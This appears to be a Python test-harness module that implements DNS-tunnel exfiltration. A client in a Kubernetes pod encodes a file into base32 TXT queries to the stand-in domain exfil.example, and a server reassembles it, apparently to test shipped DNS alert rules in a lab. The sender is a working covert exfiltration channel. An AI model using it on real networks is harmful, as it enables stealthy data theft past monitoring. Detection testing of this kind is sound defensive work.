# SPDX-License-Identifier: Apache-2.0
"""Data through DNS, as tunnels do it: a file goes out in base32 in the labels of names, one TXT query after the other, and each
answer says that its piece has come, the last one with the SHA-256 of the whole. The names' own server puts the file together.

    tunnel.py answer ADDRESS FOLDER            the server of exfil.example, on port 5353; FOLDER/SESSION is a file that has come
    tunnel.py send SERVER SESSION RATE <FILE   in a pod, by its resolver; exit code 0 when the server's sum is ours

In the world of the tests kube-dns-0 knows where that server is (tests/demo/world/resolver.conf)."""
import base64
import hashlib
import os
import re
import socket
import struct
import subprocess
import sys
import time

import dnswire

STOCK = os.path.join(os.path.dirname(os.path.abspath(__file__)), "../../manifests/alerts")
DOMAIN, PORT = "exfil.example", 5353
PIECE = 105  # octets of a name; in base32 three labels of 56: names of some 200 characters


def name_of(piece, number, total, session):
    text = base64.b32encode(piece).decode().rstrip("=").lower()
    labels = [text[i:i + 56] for i in range(0, len(text), 56)]
    return ".".join([*labels, f"{number}-{total}-{session}", DOMAIN])


def piece_of(name):
    """number, total, session, octets; None: it is none of ours."""
    m = re.fullmatch(rf"([a-z2-7.]+)\.(\d+)-(\d+)-([a-z0-9]+)\.{re.escape(DOMAIN)}", name.lower())
    if not m:
        return None
    text = m[1].replace(".", "").upper()
    return int(m[2]), int(m[3]), m[4], base64.b32decode(text + "=" * (-len(text) % 8))


# --- messages ------------------------------------------------------------------------------------

def answer(message, text):
    """text: of the TXT record; None: there is no such name."""
    end, found = dnswire.message(message)[5], text is not None
    head = message[:2] + struct.pack("!5H", 0x8400 | (0 if found else 3), 1, found, 0, 0)
    record = struct.pack("!3HIHB", 0xc00c, 16, 1, 0, len(text) + 1, len(text)) + text.encode() if found else b""
    return head + message[12:end] + record


def text_of(message):
    """The TXT of an answer that has this record alone; "" without."""
    end, answers = dnswire.message(message)[5], struct.unpack("!H", message[6:8])[0]
    return message[end + 13:].decode() if answers else ""


# --- the two ends --------------------------------------------------------------------------------

def serve(address, folder):
    sessions = {}
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind((address, PORT))
        print("ready", flush=True)
        while True:
            message, peer = s.recvfrom(4096)
            found, text = piece_of(dnswire.message(message)[3]), None
            if found:
                number, total, session, octets = found
                pieces = sessions.setdefault(session, {})
                pieces[number] = octets
                text = f"ok {number}"
                if len(pieces) == total:
                    whole = b"".join(pieces[i] for i in range(total))
                    with open(f"{folder}/{session}.part", "wb") as f:
                        f.write(whole)
                    os.rename(f"{folder}/{session}.part", f"{folder}/{session}")
                    text = hashlib.sha256(whole).hexdigest()
            s.sendto(answer(message, text), peer)


def exchange(s, identifier, name):
    for _ in range(3):
        s.send(dnswire.query(name, "TXT", identifier))
        try:
            while True:
                message = s.recv(4096)
                if message[:2] == struct.pack("!H", identifier):
                    return text_of(message)
        except TimeoutError:
            continue
    return ""


def send(server, session, rate):
    data, text = sys.stdin.buffer.read(), ""
    pieces = [data[i:i + PIECE] for i in range(0, len(data), PIECE)]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.connect((server, 53))
        for number, piece in enumerate(pieces):
            began = time.monotonic()
            text = exchange(s, number, name_of(piece, number, len(pieces), session))
            if number + 1 < len(pieces) and text != f"ok {number}":
                sys.exit(f"tunnel: piece {number}: {text!r}")
            time.sleep(max(0.0, began + 1 / rate - time.monotonic()))
    sys.exit(0 if text == hashlib.sha256(data).hexdigest() else f"tunnel: the sum is {text!r}")


# --- for tests -----------------------------------------------------------------------------------

class Tunnel:
    """The outside end, in the world of a lab."""

    def __init__(self, lab, address):
        self.lab, self.folder = lab, f"{lab.work}/tunnel"
        os.makedirs(self.folder)
        child = lab.spawn("tunnel", [sys.executable, __file__, "answer", address, self.folder], netns=f"{lab.prefix}-outside")
        lab.wait_for(child, "ready")

    def send(self, pod, session, data, rate):
        """In the pod, until all of it has been sent; whether both ends have the same, and what was wrong."""
        p = subprocess.run(self.lab.in_pod(pod, [sys.executable, __file__, "send", pod.dns["Servers"][0], session, str(rate)]),
                           input=data, capture_output=True, timeout=len(data) / PIECE / rate + 120)
        return p.returncode == 0, p.stderr.decode()

    def received(self, session):
        with open(f"{self.folder}/{session}", "rb") as f:
            return f.read()


def stock_rules(target, period=None):
    """The rules that ship, as they are. period: they are evaluated so often instead of each minute; how far they look back, and
    with it every threshold, stays."""
    for name in sorted(os.listdir(STOCK)):
        if not name.startswith("dns-"):
            continue
        with open(f"{STOCK}/{name}") as f:
            text = f.read()
        if period:
            text = re.sub(r"^  period: 1m$", f"  period: {period}", text, flags=re.M)
        with open(f"{target}/{name}.new", "w") as f:
            f.write(text)
        os.rename(f"{target}/{name}.new", f"{target}/{name}")


if __name__ == "__main__":
    if sys.argv[1] == "answer":
        serve(*sys.argv[2:])
    send(sys.argv[2], sys.argv[3], float(sys.argv[4]))
